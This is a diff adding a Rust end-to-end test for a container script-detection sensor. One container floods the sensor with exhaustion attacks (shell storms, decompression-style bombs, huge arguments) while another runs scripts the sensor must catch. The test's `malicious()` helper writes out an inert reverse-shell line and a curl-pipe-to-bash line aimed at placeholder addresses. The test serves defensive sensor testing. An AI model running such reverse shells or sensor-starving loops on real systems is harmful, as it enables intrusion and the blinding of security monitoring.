@@ -1,0 +1,195 @@
+//! One container does what it can to blind, starve or kill the sensor, while another runs scripts that have to be found.
+//!
+//! The ordinary form does everything at once for some seconds. The long form (`cargo xtask test siege`) does each attack
+//! alone first, and prints what each costs.
+
+use std::{
+    fmt::Write,
+    fs,
+    path::Path,
+    process::{Child, Command, Stdio},
+    time::{Duration, Instant},
+};
+
+use base64::{Engine, prelude::BASE64_STANDARD};
+use e2e::{
+    cgroup::{Cgroup, enter},
+    node::Node,
+    shell::quiet,
+};
+use serde_json::Value;
+
+const ATTACKER: &str = "00000000000000000000000000000000000000000000000000000000000000a1";
+const QUIET: &str = "00000000000000000000000000000000000000000000000000000000000000b2";
+const UID: &str = "6b1d3a5e-0c1f-4e6a-9f1b-2f3c4d5e6f70";
+/// Scripts of the quiet container.
+const SCRIPTS: usize = 100;
+/// What the sensor may take while everything is done at once, bytes.
+const MEMORY: u64 = 256 << 20;
+/// How long an attack lasts at least, seconds.
+const SECONDS: u64 = 6;
+
+/// Malicious by any model, and inert: `:` runs instead.
+fn malicious(number: usize) -> String {
+    format!(": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/{number} | bash")
+}
+
+/// The attacks: a name, and a script for bash whose `$D` is a directory with the attacker's files. Each goes on until `$END`.
+const ATTACKS: [(&str, &str); 8] = [
+    ("storm of shells", "while [ $SECONDS -lt $END ]; do /bin/dash -c \": $((N+=1))\"; done"),
+    (
+        "flood of data",
+        "while [ $SECONDS -lt $END ]; do yes data | head -c 4000000 | while read -r x; do :; done; done",
+    ),
+    ("flood of sourced files", "while [ $SECONDS -lt $END ]; do . $D/large; done"),
+    (
+        "one malicious script of 1 MiB, again and again",
+        "while [ $SECONDS -lt $END ]; do /bin/dash $D/malicious; done",
+    ),
+    (
+        "scripts that unpack to much",
+        "while [ $SECONDS -lt $END ]; do echo \"# $((N+=1))\" >> $D/bomb; /bin/dash $D/bomb; done",
+    ),
+    ("arguments of one byte", "while [ $SECONDS -lt $END ]; do /bin/dash -c : $(seq -s ' ' 1 30000); done"),
+    (
+        "a new shell each time",
+        "while [ $SECONDS -lt $END ]; do cp /bin/dash $D/sh$((N+=1)); $D/sh$N -c :; rm $D/sh$N; done",
+    ),
+    (
+        "a script that grows",
+        "while [ $SECONDS -lt $END ]; do echo \": $((N+=1)) && true\"; [ $((N % 200)) = 0 ] && sleep 0.01; done | /bin/bash",
+    ),
+];
+
+/// The attacker's files.
+fn prepare(dir: &Path) {
+    fs::write(dir.join("large"), ": harmless line of a file that is sourced\n".repeat(24_000))
+        .expect("a file");
+    let padding = "# padding\n".repeat(104_000);
+    fs::write(dir.join("malicious"), format!("{}\n{padding}", malicious(9999))).expect("a file");
+    // Runs of base64 that each unpack to 256 KiB.
+    let mut packed = Vec::new();
+    let mut zip =
+        Command::new("gzip").arg("-9").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("gzip");
+    std::io::Write::write_all(&mut zip.stdin.take().expect("its input"), &vec![b'a'; 256 << 10])
+        .expect("gzip reads");
+    std::io::Read::read_to_end(&mut zip.stdout.take().expect("its output"), &mut packed)
+        .expect("gzip writes");
+    zip.wait().expect("gzip ends");
+    let run = BASE64_STANDARD.encode(packed);
+    let mut bomb = String::new();
+    while bomb.len() < 1 << 20 {
+        let _ = writeln!(bomb, ": {run}");
+    }
+    fs::write(dir.join("bomb"), bomb).expect("a file");
+}
+
+fn start(attack: &str, dir: &Path, procs: &Path) -> Child {
+    let mut command = quiet("/bin/bash");
+    command.args(["-c", attack]).env("D", dir).env("END", SECONDS.to_string());
+    enter(&mut command, procs);
+    command.spawn().expect("an attack")
+}
+
+/// What an attack did to the sensor and to the quiet container.
+struct Effect {
+    found: usize,
+    /// From the begin of a script to its finding, ms: the median and the 99th percentile.
+    median_ms: f64,
+    p99_ms: f64,
+    peak_bytes: u64,
+    impaired: Vec<Value>,
+}
+
+fn besiege(attacks: &[(&str, &str)], scripts: usize) -> Effect {
+    let node = Node::start(&[]).expect("a node");
+    prepare(node.dir.path());
+    let of = |id: &str| Cgroup::make(&format!("kubepods/burstable/pod{UID}/{id}"));
+    let (attacker, quiet_one) = (of(ATTACKER), of(QUIET));
+    let mut children: Vec<Child> =
+        attacks.iter().map(|(_, attack)| start(attack, node.dir.path(), &attacker.procs())).collect();
+    let begun = Instant::now();
+    let pause = Duration::from_millis(1000 * SECONDS / scripts as u64);
+    for number in 0..scripts {
+        let mut command = quiet("/bin/dash");
+        command.args(["-c", &malicious(number)]);
+        enter(&mut command, &quiet_one.procs());
+        command.status().expect("a shell");
+        std::thread::sleep((pause * (number as u32 + 1)).saturating_sub(begun.elapsed()));
+    }
+    for child in &mut children {
+        child.wait().expect("an attack ends");
+    }
+    let is_of = |finding: &Value, id: &str| {
+        finding["sourceProperties"]["Cgroup_Path"].as_str().is_some_and(|path| path.contains(id))
+    };
+    let is_found =
+        |finding: &Value| finding["category"] == "Malicious Script Executed" && is_of(finding, QUIET);
+    // What is late is waited for, and what is lost never comes.
+    let _ = node.wait_for(|all| all.iter().filter(|finding| is_found(finding)).count() >= scripts);
+    let status = fs::read_to_string(format!("/proc/{}/status", node.sensor.pid())).expect("the sensor lives");
+    let kib = status
+        .lines()
+        .find_map(|line| line.strip_prefix("VmHWM:")?.trim().strip_suffix(" kB")?.parse::<u64>().ok());
+    let outcome = node.finish().expect("an outcome");
+    let found: Vec<&Value> = outcome.findings.iter().filter(|finding| is_found(finding)).collect();
+    let mut times: Vec<f64> = found.iter().map(|finding| seconds_to_finding(finding) * 1000.0).collect();
+    times.sort_by(f64::total_cmp);
+    let at = |share: f64| {
+        times.get(((times.len() as f64 * share) as usize).min(times.len().saturating_sub(1))).copied()
+    };
+    let repeated: Vec<&Value> = outcome
+        .findings
+        .iter()
+        .filter(|f| f["category"] == "Malicious Script Executed" && is_of(f, ATTACKER))
+        .collect();
+    assert!(
+        repeated.len() <= 1,
+        "a script that runs again and again is one finding, and not {}",
+        repeated.len()
+    );
+    Effect {
+        found: found.len(),
+        median_ms: at(0.5).unwrap_or(f64::NAN),
+        p99_ms: at(0.99).unwrap_or(f64::NAN),
+        peak_bytes: kib.expect("a peak") * 1024,
+        impaired: outcome.findings.iter().filter(|f| f["category"] == "Sensor Impaired").cloned().collect(),
+    }
+}
+
+fn seconds_to_finding(finding: &Value) -> f64 {
+    let time =
+        |key: &str| -> jiff::Timestamp { finding[key].as_str().expect("a time").parse().expect("a time") };
+    time("createTime").duration_since(time("eventTime")).as_secs_f64()
+}
+
+fn show(name: &str, effect: &Effect, scripts: usize) {
+    let reasons: Vec<&str> =
+        effect.impaired.iter().filter_map(|f| f["sourceProperties"]["Impairment_Reason"].as_str()).collect();
+    println!(
+        "{name}: found {} of {scripts}, p50 {:.0} ms, p99 {:.0} ms, peak {} MiB, impaired {reasons:?}",
+        effect.found,
+        effect.median_ms,
+        effect.p99_ms,
+        effect.peak_bytes >> 20
+    );
+}
+
+#[test]
+fn a_quiet_container_is_seen_while_another_attacks() {
+    if std::env::var("SCRIPTWATCH_TEST_CHAOS").is_ok_and(|form| form == "long") {
+        show("nothing", &besiege(&[], SCRIPTS), SCRIPTS);
+        for attack in ATTACKS {
+            show(attack.0, &besiege(&[attack], SCRIPTS), SCRIPTS);
+        }
+    }
+    let effect = besiege(&ATTACKS, SCRIPTS);
+    show("all at once", &effect, SCRIPTS);
+    assert_eq!(effect.found, SCRIPTS, "of the quiet container's scripts");
+    assert!(effect.peak_bytes < MEMORY, "{} MiB", effect.peak_bytes >> 20);
+    // Whoever is named did it.
+    for finding in &effect.impaired {
+        let path = finding["sourceProperties"]["Cgroup_Path"].as_str().unwrap_or_default();
+        assert!(!path.contains(QUIET), "{finding:#}");
+    }
+}
